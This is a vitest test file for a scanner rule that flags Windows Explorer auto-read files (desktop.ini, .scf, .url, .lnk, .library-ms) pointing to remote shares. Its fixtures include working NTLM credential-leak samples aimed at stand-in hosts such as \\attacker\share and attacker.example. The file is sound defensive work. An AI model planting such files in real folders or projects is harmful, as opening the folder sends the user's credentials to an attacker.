/**
 * A file Windows Explorer reads by itself when it shows a folder (desktop.ini, .scf, .url, .lnk, .library-ms,
 * .searchConnector-ms) that names a share makes Explorer send the user's NTLM credentials there as soon as
 * the folder sync wrote is opened. Such a file is a high finding, which keeps its skill from being served;
 * the ones Windows and people write every day are not.
 */
import { describe, expect, it } from "vitest";
import { auditFile } from "../../src/audit/index.js";
import { loadCatalog } from "../../src/catalog/index.js";
import { inspectCatalog } from "../../src/inspection/index.js";
import { makeTree, skillMd } from "../helpers/skill-tree.js";

const text = (value: string) => new TextEncoder().encode(value);
/** UTF-16LE with its BOM, as Windows writes a desktop.ini. */
const utf16 = (value: string) => new Uint8Array([0xff, 0xfe, ...Buffer.from(value, "utf16le")]);
const remote = (path: string, bytes: Uint8Array) =>
  auditFile(path, bytes).filter((found) => found.rule === "explorer-remote-location");

describe("explorer-remote-location", () => {
  it.each([
    ["s/desktop.ini", text("[.ShellClassInfo]\r\nIconResource=\\\\attacker\\share\\icon.ico,0\r\n"), 2],
    ["s/Desktop.INI", utf16("[.ShellClassInfo]\r\nIconFile=\\\\10.0.0.5\\s\\a.ico\r\nIconIndex=0\r\n"), 2],
    [
      "s/assets/@open.scf",
      text("[Shell]\nCommand=2\nIconFile=\\\\attacker\\share\\x.ico\n[Taskbar]\nCommand=ToggleDesktop\n"),
      3,
    ],
    [
      "s/docs.url",
      text("[InternetShortcut]\nURL=https://example.com/\nIconFile=//attacker/share/i.ico\nIconIndex=1\n"),
      3,
    ],
    ["s/docs.url", text("[InternetShortcut]\nURL=file://attacker/share/readme.txt\n"), 2],
    [
      "s/icon.url",
      text("[InternetShortcut]\nURL=https://example.com/\nIconFile=https://attacker.example/i.ico\n"),
      3,
    ],
    [
      "s/x.library-ms",
      text(
        '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\attacker\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
      ),
      0,
    ],
    [
      "s/x.searchConnector-ms",
      text(
        '<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><simpleLocation><url>https://attacker.example/dav</url></simpleLocation></searchConnectorDescription>',
      ),
      0,
    ],
    // A Shell Link holds its target as UTF-16 among binary fields.
    [
      "s/readme.lnk",
      new Uint8Array([
        0x4c,
        0,
        0,
        0,
        0x01,
        0x14,
        0x02,
        0,
        ...Buffer.from("\\\\attacker\\share\\doc.pdf", "utf16le"),
        0,
        0,
      ]),
      0,
    ],
  ])("is a high finding in %s, naming the location", (path, bytes, line) => {
    const [found, ...more] = remote(path, bytes);
    expect(more).toEqual([]);
    expect(found).toMatchObject({ line, severity: "high" });
    expect(found?.detail).toMatch(
      /names a remote location, ".*(?:attacker|10\.0\.0\.5).*": opening the folder sends/,
    );
  });

  it.each([
    // What Windows writes for a customized folder: a local icon, a localized name from a system DLL.
    [
      "s/desktop.ini",
      utf16(
        "[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,-3\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\r\n[ViewState]\r\nMode=\r\nVid=\r\nFolderType=Documents\r\n",
      ),
    ],
    [
      "s/desktop.ini",
      text("[.ShellClassInfo]\nIconFile=icons\\skill.ico\nIconIndex=0\nInfoTip=Read SKILL.md first\n"),
    ],
    // A link to a web page, opened only when clicked, its icon the browser's.
    [
      "s/docs.url",
      text(
        "[InternetShortcut]\r\nURL=https://docs.example.com//guide?a=b\r\nIconFile=C:\\Program Files\\Browser\\browser.exe\r\nIconIndex=0\r\n",
      ),
    ],
    ["s/local.url", text("[InternetShortcut]\nURL=file:///C:/Users/me/notes.txt\n")],
    [
      "s/x.library-ms",
      text(
        '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><iconReference>imageres.dll,-1002</iconReference><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
      ),
    ],
    [
      "s/readme.lnk",
      new Uint8Array([0x4c, 0, 0, 0, ...Buffer.from("C:\\Users\\me\\readme.txt", "utf16le"), 0, 0]),
    ],
    // The same text in a file Explorer does not read by itself: an INI file, a Markdown note.
    ["s/settings.ini", text("[share]\nIconFile=\\\\attacker\\share\\icon.ico\n")],
    ["s/SKILL.md", text("Map the share: `net use Z: \\\\fileserver\\team`.\n")],
  ])("is not a finding in %s", (path, bytes) => {
    expect(remote(path, bytes)).toEqual([]);
  });

  // Untrusted files: each is read once, whatever its lines and slashes.
  it("reads a hostile file of millions of keys and slashes once", () => {
    const many = `[.ShellClassInfo]\n${"IconFile=/\\/\\".repeat(200_000)}\n${"=".repeat(1_000_000)}\nIconFile=\\\\attacker\\i.ico\n`;
    expect(remote("s/desktop.ini", text(many))).toMatchObject([{ line: 4 }]);
    const xml = `${"<url> ".repeat(200_000)}${"\\/".repeat(500_000)}`;
    expect(remote("s/x.library-ms", text(xml))).toEqual([]);
  });

  // High: the server leaves the skill out unless UNSAFE_SKILLS=serve, so sync never writes the file.
  it("makes the skill holding such a file unsafe to serve, and leaves one with a local icon alone", async () => {
    const tree = await makeTree({
      "p/evil/SKILL.md": skillMd("evil"),
      "p/evil/assets/desktop.ini": "[.ShellClassInfo]\r\nIconResource=\\\\attacker\\s\\i.ico,0\r\n",
      "p/plain/SKILL.md": skillMd("plain"),
      "p/plain/assets/desktop.ini": "[.ShellClassInfo]\r\nIconResource=icons\\skill.ico,0\r\n",
    });
    try {
      const { inspection } = await inspectCatalog(loadCatalog(tree.dir).catalog);
      const unsafe = inspection.unsafe().map(({ skill, findings }) => [skill.id, findings[0]?.rule]);
      expect(unsafe).toEqual([["p/evil", "explorer-remote-location"]]);
    } finally {
      await tree.remove();
    }
  });
});
